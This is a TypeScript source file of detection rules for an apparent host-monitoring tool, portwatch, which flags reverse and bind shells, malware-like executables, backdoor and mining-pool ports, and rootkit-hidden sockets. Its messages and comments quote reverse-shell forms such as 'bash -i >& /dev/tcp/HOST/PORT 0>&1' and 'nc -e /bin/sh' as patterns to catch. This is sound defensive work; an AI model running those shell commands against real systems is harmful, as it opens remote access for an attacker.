import type { Knowledge } from "../knowledge/knowledge.js";
import { processNames } from "./program-names.js";
import { TRUST_RULES } from "./rules-trust.js";
import { genuine } from "./trust.js";
import { commandLineOf, readCommandLine, scriptOf, type CommandLine, type InlineCode } from "./command-line.js";
import { ownerText, type ProcessInfo } from "../model/process.js";
import { isLoopback } from "../model/address.js";
import type { Hiding } from "../model/hiding.js";
import type { Socket } from "../model/socket.js";
import { hiddenSocketMessage, unownedWhileHiding } from "./rules-hiding.js";
import { SHUTDOWN_STATES } from "../model/socket-state.js";
import type { Reason } from "../model/verdict.js";
import { PROVENANCE_PROCESS_RULES, PROVENANCE_SOCKET_RULES } from "./rules-provenance.js";
import { REVERSE_SHELL } from "./rules-process-tree.js";
import { firewallShields } from "./reach.js";
import { exposingMappings, mappingText, publishAdvice } from "./published.js";
import { blocklistReason } from "./lists.js";

/** What the rules know besides the socket. */
export interface RuleContext {
  knowledge: Knowledge;
  /**
   * How the sockets were collected: "live-root" (every owner visible), "live" (without root: others'
   * owners hidden), or "capture" (another tool's output: owners only as far as it shows them).
   */
  mode: "live-root" | "live" | "capture";
  /** The pid of portwatch itself, on a live host (its own dashboard listens). */
  selfPid?: number | null;
  /** What hides on a live host (model/hiding.ts): processes kept out of /proc's view, namespaces no process is in. */
  hiding?: Hiding;
  /** The DNS servers the live host's resolver asks (/etc/resolv.conf), as ipKey keys (collect/parse/resolv-conf.ts). */
  nameservers?: ReadonlySet<string>;
}

/** A built-in rule: an id, and a check that returns its reasons for one socket. */
export interface Rule {
  id: string;
  check(s: Socket, ctx: RuleContext): Reason | null;
}

export { processNames };

function ownedBy(ctx: RuleContext, owners: readonly string[], p: ProcessInfo | null): boolean {
  const names = processNames(p, ctx.knowledge);
  return owners.some((o) => names.includes(o));
}

/** The port that matters for judging the socket: the local one for listeners and inbound, the remote one for outbound. */
export function judgedPort(s: Socket): number | null {
  if (s.direction === "outbound") return s.remote?.port ?? null;
  return s.local.port;
}

const who = (p: ProcessInfo | null): string => (p === null ? "an unknown program" : ownerText(p));
const portText = (port: number, proto: string) => `${port}/${proto}`;

const SYSTEM_DIRS = /^\/(usr|bin|sbin|lib|lib32|lib64|libx32|opt|snap|nix\/store)\//;
const WRITABLE_DIRS = /^\/(tmp|var\/tmp|dev\/shm|run\/shm|var\/crash|run\/lock|var\/lock|dev\/mqueue|var\/spool\/cron\/crontabs|var\/metrics)(\/|$)/;

/**
 * A connection inside this computer that is shutting down and that no process is seen to hold (TIME_WAIT
 * and friends, and CLOSE_WAIT: see socket-state.ts). Once its listener is gone, which end was the server
 * cannot be told, so port lists say nothing about it.
 */
function leftover(s: Socket): boolean {
  return s.process === null && SHUTDOWN_STATES.has(s.state) && s.remote !== null && isLoopback(s.remote.address) && isLoopback(s.local.address);
}

const reason = (rule: string, verdict: Reason["verdict"], message: string): Reason => ({ rule, verdict, message });

/** How the code flag was written, in a few words: "-c", "-Ic: -c inside a cluster", "-enc: short for -EncodedCommand". */
function codeFlag(c: InlineCode, program: string): string {
  switch (c.how) {
    case "cluster": return `${c.written}: ${c.flag} inside a cluster`;
    case "glued": return `${c.flag} with the code glued to it`;
    case "abbreviated": return `${c.written}: short for ${c.flag}`;
    case "operand": return "its program is its first argument";
    case "subcommand": return `${program} ${c.flag}`;
    default: return c.written;
  }
}

const stdinText = (cl: CommandLine): string =>
  cl.stdinCode?.flag == null ? `${cl.program} with no script: from a pipe, a socket or a terminal` : `${cl.program} ${cl.stdinCode.flag}`;

function shellSocketMessage(p: ProcessInfo, cl: CommandLine, knowledge: Knowledge): string | null {
  switch (cl.kind) {
    case "shell": {
      const what = cl.interactive ? `an interactive shell (${cl.interactive.flag})`
        : cl.code ? `a shell running the command given with ${codeFlag(cl.code, cl.program)}`
        : cl.stdinCode ? `a shell reading its commands from standard input (${stdinText(cl)})`
        : cl.script ? `a shell running ${cl.script}` : "a shell";
      const tail = cl.interactive ? "the classic reverse shell is bash -i >& /dev/tcp/HOST/PORT 0>&1" : "that is what a reverse or bind shell looks like";
      return `${who(p)} is ${what}${cl.applet ? ` (busybox ${cl.applet})` : ""} holding a network socket: ${tail}`;
    }
    case "netcat": {
      // socat names the program in an address: EXEC:/bin/sh,pty,stderr or SYSTEM:'bash -i'
      const run = cl.exec ?? socatExec(p.cmdline ?? []);
      return `${who(p)} is a netcat-like tool holding a network socket${run ? `, set to run ${run.text} for the other end (${run.flag})` : ""}: that is what a reverse or bind shell looks like`;
    }
    case "server": {
      const run = cl.exec ? readCommandLine([cl.exec.text], null, null, knowledge) : null;
      if (cl.exec === undefined || run?.kind !== "shell") return null;
      return `${who(p)} serves ${cl.exec.text} to whoever connects (${cl.exec.flag}), with no login: a bind shell`;
    }
    case "interpreter":
      if (cl.fileServer) return null; // ad-hoc-server says what it is
      if (cl.code && cl.code.known === undefined) return `${who(p)} runs code given on its command line (${codeFlag(cl.code, cl.program)}) and holds a network socket: the shape of a one-line reverse shell`;
      if (cl.stdinCode) return `${who(p)} reads its program from standard input (${stdinText(cl)}) and holds a network socket: the shape of a reverse shell piped in (curl \u2026 | ${cl.program})`;
      if (cl.interactive) return `${who(p)} runs interactively (${cl.interactive.flag}) and holds a network socket: its commands come from standard input`;
      return null;
    default:
      return null; // a busybox applet that is no shell (httpd, udhcpc)
  }
}

// socat's addresses that connect it to a program or to its own input and output (socat(1) "ADDRESS TYPES"):
// with one of these it is a shell's pipe (EXEC:/bin/sh) or a netcat (STDIO, -); with two network addresses, a relay.
const SOCAT_LOCAL = /^(-|stdio|stdin|stdout|stderr|fd|pty|open|file|create|gopen|pipe|named|readline|exec|system|shell)(:|,|$)/i;

/** The program a socat address runs (EXEC:/bin/sh,pty → /bin/sh, flag "EXEC:"), if any. */
function socatExec(args: readonly string[]): { flag: string; text: string } | null {
  for (const a of args.slice(1)) {
    const m = /^(exec|system|shell):([^,]*)/i.exec(a);
    if (m) return { flag: `${m[1]}:`, text: m[2] as string };
  }
  return null;
}

/** The two addresses of a socat that only relays between network ends (TCP-LISTEN:8080,fork TCP:host:80); else null. */
function socatRelay(p: ProcessInfo): [string, string] | null {
  const args = p.cmdline ?? [];
  const b = (x: string | null | undefined) => (x ? x.slice(x.lastIndexOf("/") + 1) : "");
  if (b(p.exe) !== "socat" && b(args[0]) !== "socat") return null;
  // socat [options] ADDRESS ADDRESS: the addresses are the last two arguments
  const [a, z] = args.slice(-2);
  if (args.length < 3 || a === undefined || z === undefined || /^-./.test(a) || /^-./.test(z) || SOCAT_LOCAL.test(a) || SOCAT_LOCAL.test(z)) return null;
  return [a, z];
}

/** Process-level findings: they go on every socket of the process. */
export const PROCESS_RULES: readonly Rule[] = [
  {
    id: "deleted-exe",
    check(s) {
      const p = s.process;
      if (!p?.exeDeleted) return null;
      // An upgrade replaces a packaged file: a deleted file at a path no installed package owns was never one.
      const unowned = p.provenance?.database === "dpkg" && p.package === null;
      if (p.exe && SYSTEM_DIRS.test(p.exe) && !WRITABLE_DIRS.test(p.exe) && unowned) {
        return reason("deleted-exe", "suspicious", `It runs from a deleted file (${p.exe}) that no installed package owns, so no upgrade replaced it: malware often deletes its own program after starting, to leave no trace`);
      }
      if (p.exe && SYSTEM_DIRS.test(p.exe) && !WRITABLE_DIRS.test(p.exe)) {
        return reason("deleted-exe", "unknown", `Its program file ${p.exe} was replaced or removed after it started: usually a package upgrade (restart ${p.name ?? "it"}), but check if you did not upgrade`);
      }
      return reason("deleted-exe", "suspicious", `It runs from a deleted file (${p.exe ?? "?"}): malware often deletes its own program after starting, to leave no trace`);
    },
  },
  {
    id: "writable-dir-exe",
    check(s, ctx) {
      const p = s.process;
      const exe = p?.exe;
      if (p === null || !exe) return null;
      if (WRITABLE_DIRS.test(exe)) return reason("writable-dir-exe", "suspicious", `Its program runs from ${exe.slice(0, exe.lastIndexOf("/") + 1) || exe}, a folder anyone can write to: real services are installed elsewhere, dropped malware lands here`);
      // python3 /dev/shm/x.py: the installed interpreter runs a program dropped where anyone can write
      const script = scriptOf(p, ctx.knowledge);
      // node -r /dev/shm/x.js app.js, ruby -r/tmp/x.rb: code loaded before the program, from where anyone can write
      // (a class path is a list: java -cp /opt/app/lib/*:/tmp/x.jar)
      const module = script?.place === "world-writable" ? undefined : commandLineOf(p, ctx.knowledge)?.modules.flatMap((m) => m.split(":")).find((m) => WRITABLE_DIRS.test(m));
      if (module !== undefined) return reason("writable-dir-exe", "suspicious", `It loads code from ${module} (${p.name ?? exe} was told to, on its command line), a place anyone can write to: code slipped in beside a program is how droppers hide in ordinary processes`);
      if (script === null || script.place !== "world-writable") return null;
      return reason("writable-dir-exe", "suspicious", `Its program is the script ${script.path}, run by ${p.name ?? exe}, from ${script.path.slice(0, script.path.lastIndexOf("/") + 1)}, a folder anyone can write to: real services are installed elsewhere, dropped malware lands here`);
    },
  },
  {
    id: "kernel-thread-name",
    check(s, ctx) {
      const p = s.process;
      if (p === null) return null;
      const argv0 = p.cmdline?.[0] ?? null;
      const fake = ctx.knowledge.looksLikeKernelThread(p.name) || (argv0 !== null && /^\[.*\]$/.test(argv0));
      // Kernel threads have no executable and no arguments; a named "kworker" that has them is disguised.
      if (!fake || (p.exe === null && (p.cmdline === null || p.cmdline.length === 0))) return null;
      return reason("kernel-thread-name", "suspicious", `It calls itself "${argv0 && /^\[/.test(argv0) ? argv0 : p.name}" like a kernel thread, but runs a program (${p.exe ?? argv0}): a common disguise`);
    },
  },
  {
    // A shell or netcat holding a socket, or an interpreter running code from its command line or its
    // standard input: what reverse and bind shells look like. The command line is read with the
    // program's own grammar (command-line.ts, data/interpreters.json), so `python3 -Ic '...'` and
    // `curl ... | python3` are caught while `node -r dotenv/config app.js` and `ruby -run -e httpd` are not.
    // A shell stays suspicious whatever it runs, `sh -c '...'` included: a wrapper that ends in
    // `exec /usr/sbin/foo` is replaced by foo and never seen as a shell, so a shell that holds a socket
    // itself is what `nc -e /bin/sh` leaves behind (a service that does it on purpose: allow it by policy).
    id: "shell-socket",
    check(s, ctx) {
      const p = s.process;
      if (p === null) return null;
      const cl = commandLineOf(p, ctx.knowledge);
      if (cl === null) return null;
      const relay = cl.kind === "netcat" ? socatRelay(p) : null;
      if (relay !== null) return reason("relay", "unknown", `${who(p)} relays between ${relay[0]} and ${relay[1]}, a port forward with no program behind it: it carries whatever either end sends, so check who reaches it and where it leads`);
      const message = shellSocketMessage(p, cl, ctx.knowledge);
      return message === null ? null : reason("shell-socket", "suspicious", message);
    },
  },
  {
    // python3 -m http.server, ruby -run -e httpd, php -S: a folder shared by a command someone typed.
    id: "ad-hoc-server",
    check(s, ctx) {
      const p = s.process;
      const f = p === null ? undefined : commandLineOf(p, ctx.knowledge)?.fileServer;
      if (f === undefined) return null;
      return reason("ad-hoc-server", "unknown", `A quick ${f.what} started from the command line (${f.shown}): ${f.risk}`);
    },
  },
  ...PROVENANCE_PROCESS_RULES,
  REVERSE_SHELL,
];

/** Socket-level rules. */
export const SOCKET_RULES: readonly Rule[] = [
  // The other end is on an enabled address list (remote.lists, set by the judge: evaluate.ts, lists.ts).
  { id: "blocklist", check: blocklistReason },
  {
    id: "irc-outbound",
    check(s, ctx) {
      if (s.direction !== "outbound" || s.remote === null || s.proto !== "tcp" || leftover(s)) return null;
      const hit = ctx.knowledge.indicators(s.remote.port, "tcp").find((h) => h.list === "irc");
      if (!hit) return null;
      if (genuine(ctx.knowledge, "ircClients", s.process, processNames(s.process, ctx.knowledge))) return null;
      if (hit.entry.collisions?.some((c) => ownedBy(ctx, c.owners, s.process))) return null;
      return reason("irc-outbound", "suspicious", `Connected to an IRC server port (${s.remote.port}) by ${s.process === null ? "an unknown program" : `${s.process.name ?? "?"}, which is not an IRC client`}: ${hit.why}`);
    },
  },
  {
    id: "backdoor-port",
    check(s, ctx) {
      const port = judgedPort(s);
      if (port === null || s.proto === "raw" || leftover(s)) return null;
      const hit = ctx.knowledge.indicators(port, s.proto).find((h) => h.list === "backdoor");
      if (!hit) return null;
      const collisions = hit.entry.collisions ?? [];
      if (collisions.some((c) => ownedBy(ctx, c.owners, s.process))) return null;
      if (s.direction === "outbound" && hit.entry.outboundIsNormal) return null; // a client of the legitimate service
      const where = s.direction === "outbound" ? `Connected to port ${port}` : `Port ${port}`;
      if (collisions.length > 0 && s.process === null) {
        return reason("backdoor-port", "unknown", `${where} is a known ${hit.entry.name} port, but also ${collisions.map((c) => c.note).join("; ")}: check which program holds it`);
      }
      return reason("backdoor-port", "suspicious", `${where}/${s.proto} is the default port of ${hit.entry.name} (${hit.entry.source}), held by ${who(s.process)}`);
    },
  },
  {
    id: "mining-pool",
    check(s, ctx) {
      if (s.direction !== "outbound" || s.remote === null || s.proto !== "tcp" || leftover(s)) return null;
      const hit = ctx.knowledge.indicators(s.remote.port, "tcp").find((h) => h.list === "miner");
      if (!hit) return null;
      if (genuine(ctx.knowledge, "browsers", s.process, processNames(s.process, ctx.knowledge)) || hit.entry.collisions?.some((c) => ownedBy(ctx, c.owners, s.process))) return null;
      if (s.process === null) return reason("mining-pool", "unknown", `Connected to port ${s.remote.port}, a common mining-pool port, by a program portwatch cannot see: find its owner`);
      return reason("mining-pool", "suspicious", `Connected to port ${s.remote.port}, a common cryptocurrency-mining pool port (${hit.entry.source}), by ${who(s.process)}: ${hit.why}`);
    },
  },
  {
    id: "cups-browsed",
    check(s) {
      if (s.proto !== "udp" || s.direction !== "listening" || s.local.port !== 631 || s.exposure === "loopback") return null;
      const shielded = firewallShields(s);
      const advice = "remove cups-browsed or set BrowseRemoteProtocols none";
      if (shielded !== null) return reason("cups-browsed", "unknown", `UDP 631 is cups-browsed's legacy printer browsing (CVE-2024-47176), bound beyond loopback, but ${shielded}: ${advice}`);
      return reason("cups-browsed", "suspicious", `UDP 631 open to the network is cups-browsed's legacy printer browsing, the entry point of the CVE-2024-47176 remote-code chain: ${advice}`);
    },
  },
  {
    id: "exposed-service",
    check(s, ctx) {
      if (s.direction !== "listening") return null;
      // a published port (DNAT, docker-proxy): the container's service faces the host's networks; the advice is the mapping's
      const pub = exposingMappings(s)[0];
      if (pub !== undefined) {
        const entry = ctx.knowledge.port(pub.containerPort, s.proto);
        if (!entry || entry.scope !== "loopback") return null;
        if (s.published !== undefined && entry.owners.length > 0 && s.process !== null && !ownedBy(ctx, entry.owners, s.process)) return null;
        const whose = s.published !== undefined ? `listens in its network namespace, published on ${mappingText(pub)}` : `is a container's, published on ${mappingText(pub)} to ${pub.containerAddress}:${pub.containerPort}`;
        const reach = pub.reach !== null && pub.reach.kind !== "unknown" ? `, and ${pub.reach.detail}` : "";
        return reason("exposed-service", "unknown", `${entry.name} (${portText(pub.containerPort, s.proto)}) should stay on its computer but ${whose}${reach}: ${publishAdvice(pub)}`);
      }
      if (s.exposure !== "all-interfaces" && s.exposure !== "interface") return null;
      const entry = ctx.knowledge.port(s.local.port, s.proto);
      if (!entry || entry.scope !== "loopback") return null;
      if (entry.owners.length > 0 && s.process !== null && !ownedBy(ctx, entry.owners, s.process)) return null; // not that service: unexpected-owner says so
      const where = s.exposure === "all-interfaces" ? "on every network interface" : `on ${s.local.address}`;
      const shielded = firewallShields(s);
      const firewall = shielded !== null ? `, but ${shielded}` : s.reach !== undefined && s.reach.kind !== "unknown" ? `, and ${s.reach.detail}` : "";
      return reason("exposed-service", "unknown", `${entry.name} (${portText(s.local.port, s.proto)}) should stay on this computer but listens ${where}${firewall}${entry.ifExposed ? `: ${entry.ifExposed}` : ""}`);
    },
  },
  {
    id: "unexpected-owner",
    check(s, ctx) {
      if ((s.direction !== "listening" && s.direction !== "inbound") || processNames(s.process, ctx.knowledge).length === 0) return null;
      if (s.publishes?.some((m) => m.via === "docker-proxy")) return null;   // docker-proxy holds the container's published port
      const entry = ctx.knowledge.port(s.local.port, s.proto);
      if (!entry || entry.owners.length === 0 || ownedBy(ctx, entry.owners, s.process)) return null;
      if (s.local.port >= 1024 && entry.normal === "none") return null; // a high port anyone may pick: only named services are checked
      return reason("unexpected-owner", "unknown", `Port ${portText(s.local.port, s.proto)} (${entry.name}) is normally held by ${entry.owners.slice(0, 3).join(", ")}, but here by ${who(s.process)}`);
    },
  },
  {
    id: "unowned-listener",
    check(s, ctx) {
      if (s.direction !== "listening" || s.process !== null || !s.inode) return null;
      const entry = ctx.knowledge.port(s.local.port, s.proto);
      if (entry?.owners.includes("kernel")) return null;
      // A process hides (a mount over /proc/<pid>, or one the /proc listing leaves out): an unowned listener may be its.
      if (ctx.mode !== "live-root") return null;
      const hiding = ctx.hiding?.processes ?? [];
      if (hiding.length > 0) return reason("unowned-listener", "suspicious", unownedWhileHiding(s, hiding));
      return reason("unowned-listener", "unknown", "No process that portwatch can see holds this listener although it runs as root: a kernel service, a process in another PID namespace, or one hidden from /proc (rootkits hide this way)");
    },
  },
  {
    id: "hidden-port",
    check(s) {
      if (s.hiddenFrom !== "proc" && s.hiddenFrom !== "netlink") return null;
      const port = portText(s.local.port, s.proto);
      const next = `compare "sudo ss -ltunp" with "sudo netstat -ltunp" yourself, then look for what filters them: /etc/ld.so.preload, "cat /proc/modules", and a check of this computer from a rescue system`;
      return s.hiddenFrom === "proc"
        ? reason("hidden-port", "suspicious", `ss's view (netlink) lists this listener (${port}), but netstat's view (/proc/net) leaves it out, in three reads in a row${s.process ? `, and ${who(s.process)} holds it` : ""}: rootkits hide their ports this way; ${next}`)
        : reason("hidden-port", "suspicious", `netstat's view (/proc/net) lists this listener (${port}), but ss's view (netlink) leaves it out, in three reads in a row${s.process ? `, and ${who(s.process)} holds it` : ""}: a rootkit may be hiding it from ss; ${next}`);
    },
  },
  {
    id: "hidden-socket",
    check(s, ctx) {
      if (s.hiddenFrom !== "both") return null;
      return reason("hidden-socket", "suspicious", hiddenSocketMessage(s, ctx.hiding?.emptyNamespaces ?? []));
    },
  },
  {
    id: "unlisted-port",
    check(s) {
      if (s.unlisted === undefined) return null;
      const where = s.unlisted === "wildcard-and-loopback" ? "on every address and on loopback" : "on every address (though it works on loopback: the port is held on another address)";
      return reason("unlisted-port", "suspicious", `Binding port ${portText(s.local.port, s.proto)} over IPv${s.family} fails ${where}, as when a program holds it, in four tries, but neither ss's view (netlink) nor netstat's view (/proc/net) lists a socket on it: rootkits hide their ports this way`);
    },
  },
  ...PROVENANCE_SOCKET_RULES,
  // --- what makes a socket expected (and what takes it away from an impostor): rules-trust.ts ---
  ...TRUST_RULES,
  {
    id: "portwatch",
    check(s, ctx) {
      if (ctx.mode === "capture" || !ctx.selfPid || s.process?.pid !== ctx.selfPid) return null;
      return reason("portwatch", "expected", "portwatch itself (its dashboard, or a lookup it is making)");
    },
  },
  {
    id: "local-traffic",
    check(s) {
      if (s.remote === null || !isLoopback(s.local.address) || !isLoopback(s.remote.address)) return null;
      if (s.direction === "inbound" || s.direction === "listening") return null;
      if (!SHUTDOWN_STATES.has(s.state) || s.process !== null) return null;
      return reason("local-traffic", "expected", "A finished connection between two programs on this computer (the kernel keeps it a minute)");
    },
  },
];

